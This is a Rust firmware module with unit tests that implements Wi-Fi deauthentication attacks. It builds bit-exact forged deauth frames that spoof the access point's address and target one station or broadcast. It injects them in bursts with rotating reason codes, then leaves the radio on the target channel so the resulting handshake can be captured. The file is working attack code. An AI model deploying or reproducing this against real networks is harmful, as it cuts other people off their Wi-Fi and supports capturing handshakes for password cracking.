//! Deauthentication burst injection (§4.4, §6).
//!
//! No reference-firmware counterpart (the reference firmware only
//! listens); the frame layout and burst sequence are built directly from
//! §4.4's numbered steps and §6's bit-exact wire layout.

use heapless::Vec;

use crate::error::{CoreError, CoreResult};

/// Reason-code cycle a burst rotates through (§4.4 step 7).
pub const REASON_CYCLE: [u16; 5] = [7, 6, 2, 4, 1];

pub const BROADCAST: [u8; 6] = [0xFF; 6];

/// Snapshot of radio state taken before a burst so it can be restored after
/// (§4.4 step 1, step 8).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RadioSnapshot {
    pub promiscuous: bool,
    pub hopping: bool,
    pub own_mac: [u8; 6],
}

/// Build the 26-byte deauth frame (§6: `[C0 00][00 00][Addr1x6][Addr2x6][Addr3x6][SeqLo SeqHi][Reasonx2]`).
pub fn build_deauth_frame(target: Option<[u8; 6]>, ap: [u8; 6], seq: u16, reason: u16) -> [u8; 26] {
    let mut frame = [0u8; 26];
    frame[0] = 0xC0;
    frame[1] = 0x00;
    // duration stays 0
    let addr1 = target.unwrap_or(BROADCAST);
    frame[4..10].copy_from_slice(&addr1);
    frame[10..16].copy_from_slice(&ap);
    frame[16..22].copy_from_slice(&ap);
    // sequence control: 12-bit sequence number in the upper bits, 4-bit
    // fragment number (always 0) in the lower bits.
    let seq_ctrl = (seq & 0x0FFF) << 4;
    frame[22..24].copy_from_slice(&seq_ctrl.to_le_bytes());
    frame[24..26].copy_from_slice(&reason.to_le_bytes());
    frame
}

/// Capability the platform layer implements for raw frame injection and
/// radio-mode control around a burst.
pub trait DeauthRadio {
    fn snapshot(&self) -> RadioSnapshot;
    fn set_hopping(&mut self, enabled: bool);
    fn set_promiscuous(&mut self, enabled: bool);
    fn stop_radio(&mut self);
    fn start_ap_mode(&mut self, mac: [u8; 6], channel: u8);
    fn set_power_save(&mut self, enabled: bool);
    fn inject_raw(&mut self, frame: &[u8]) -> CoreResult<()>;
    fn restore(&mut self, snapshot: RadioSnapshot, channel: u8);
}

/// Outcome of one burst (§4.4: "success iff >=1 frame injected").
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeauthResult {
    pub success: bool,
    pub channel: u8,
    pub injected: u16,
}

/// Run one deauth burst against `ap` (optionally targeting a single `target`
/// station; `None` means broadcast) on `channel`, injecting `count` frames.
/// `seq_start` is the engine-wide sequence counter's current value; the
/// caller is responsible for persisting the counter's new value between
/// calls.
pub fn send_deauth_burst<R: DeauthRadio>(
    radio: &mut R,
    target: Option<[u8; 6]>,
    ap: [u8; 6],
    channel: u8,
    mut seq_start: u16,
    count: u16,
) -> (DeauthResult, u16) {
    let before = radio.snapshot();

    radio.set_hopping(false);
    radio.set_promiscuous(false);
    radio.stop_radio();

    radio.start_ap_mode(ap, channel);
    radio.set_power_save(false);
    radio.set_promiscuous(true);

    let mut injected = 0u16;
    for i in 0..count {
        let reason = REASON_CYCLE[(i as usize) % REASON_CYCLE.len()];
        let frame = build_deauth_frame(target, ap, seq_start, reason);
        if radio.inject_raw(&frame).is_ok() {
            injected += 1;
        }
        seq_start = (seq_start + 1) % 4096;
    }

    radio.stop_radio();
    // Restoration is on the target channel, not the pre-attack channel
    // (§4.4 step 8), so the ensuing handshake remains observable.
    radio.restore(before, channel);

    (
        DeauthResult {
            success: injected >= 1,
            channel,
            injected,
        },
        seq_start,
    )
}

/// Parse a `DEAUTH` argument's MAC tokens (already split by the router)
/// into a 6-byte AP address. Kept here, not in `router.rs`, since the wire
/// format and the frame-building format share the same byte order and this
/// keeps both next to the frame builder they feed.
pub fn macs_as_bytes(tokens: &[&str]) -> Option<Vec<u8, 6>> {
    if tokens.len() < 6 {
        return None;
    }
    let mut out = Vec::new();
    for t in &tokens[..6] {
        let b = u8::from_str_radix(t, 16).ok()?;
        out.push(b).ok()?;
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frame_is_26_bytes_bit_exact() {
        let ap = [0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF];
        let frame = build_deauth_frame(None, ap, 1, 7);
        assert_eq!(frame.len(), 26);
        assert_eq!(&frame[0..2], &[0xC0, 0x00]);
        assert_eq!(&frame[2..4], &[0x00, 0x00]);
        assert_eq!(&frame[4..10], &BROADCAST);
        assert_eq!(&frame[10..16], &ap);
        assert_eq!(&frame[16..22], &ap);
        assert_eq!(&frame[24..26], &7u16.to_le_bytes());
    }

    #[test]
    fn frame_targets_specific_station_when_given() {
        let ap = [1; 6];
        let target = [2; 6];
        let frame = build_deauth_frame(Some(target), ap, 0, 7);
        assert_eq!(&frame[4..10], &target);
    }

    #[derive(Default)]
    struct FakeRadio {
        snapshot: RadioSnapshot,
        injected: Vec<[u8; 26], 64>,
        restored_channel: Option<u8>,
        fail_after: Option<usize>,
    }

    impl Default for RadioSnapshot {
        fn default() -> Self {
            Self {
                promiscuous: true,
                hopping: true,
                own_mac: [0x01; 6],
            }
        }
    }

    impl DeauthRadio for FakeRadio {
        fn snapshot(&self) -> RadioSnapshot {
            self.snapshot
        }
        fn set_hopping(&mut self, _enabled: bool) {}
        fn set_promiscuous(&mut self, _enabled: bool) {}
        fn stop_radio(&mut self) {}
        fn start_ap_mode(&mut self, _mac: [u8; 6], _channel: u8) {}
        fn set_power_save(&mut self, _enabled: bool) {}
        fn inject_raw(&mut self, frame: &[u8]) -> CoreResult<()> {
            if let Some(limit) = self.fail_after {
                if self.injected.len() >= limit {
                    return Err(CoreError::HardwareError);
                }
            }
            let mut owned = [0u8; 26];
            owned.copy_from_slice(frame);
            let _ = self.injected.push(owned);
            Ok(())
        }
        fn restore(&mut self, _snapshot: RadioSnapshot, channel: u8) {
            self.restored_channel = Some(channel);
        }
    }

    #[test]
    fn burst_injects_exactly_count_frames() {
        let mut radio = FakeRadio::default();
        let (result, _) = send_deauth_burst(&mut radio, None, [1; 6], 11, 0, 10);
        assert!(result.success);
        assert_eq!(result.injected, 10);
        assert_eq!(radio.injected.len(), 10);
    }

    #[test]
    fn count_zero_is_not_success() {
        let mut radio = FakeRadio::default();
        let (result, _) = send_deauth_burst(&mut radio, None, [1; 6], 11, 0, 0);
        assert!(!result.success);
        assert_eq!(result.injected, 0);
    }

    #[test]
    fn reason_cycles_through_sequence() {
        let mut radio = FakeRadio::default();
        send_deauth_burst(&mut radio, None, [1; 6], 1, 0, 7);
        let reasons: Vec<u16, 7> = radio
            .injected
            .iter()
            .map(|f| u16::from_le_bytes([f[24], f[25]]))
            .collect();
        assert_eq!(reasons.as_slice(), &[7, 6, 2, 4, 1, 7, 6]);
    }

    #[test]
    fn sequence_increments_modulo_4096() {
        let mut radio = FakeRadio::default();
        let (_, seq_after) = send_deauth_burst(&mut radio, None, [1; 6], 1, 4095, 3);
        assert_eq!(seq_after, 2); // 4095 -> 0 -> 1 -> 2
    }

    #[test]
    fn restores_on_target_channel_not_prior_channel() {
        let mut radio = FakeRadio::default();
        send_deauth_burst(&mut radio, None, [1; 6], 11, 0, 1);
        assert_eq!(radio.restored_channel, Some(11));
    }

    #[test]
    fn parse_mac_tokens() {
        let tokens = ["AA", "BB", "CC", "DD", "EE", "FF"];
        let mac = macs_as_bytes(&tokens).unwrap();
        assert_eq!(mac.as_slice(), &[0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF]);
    }
}
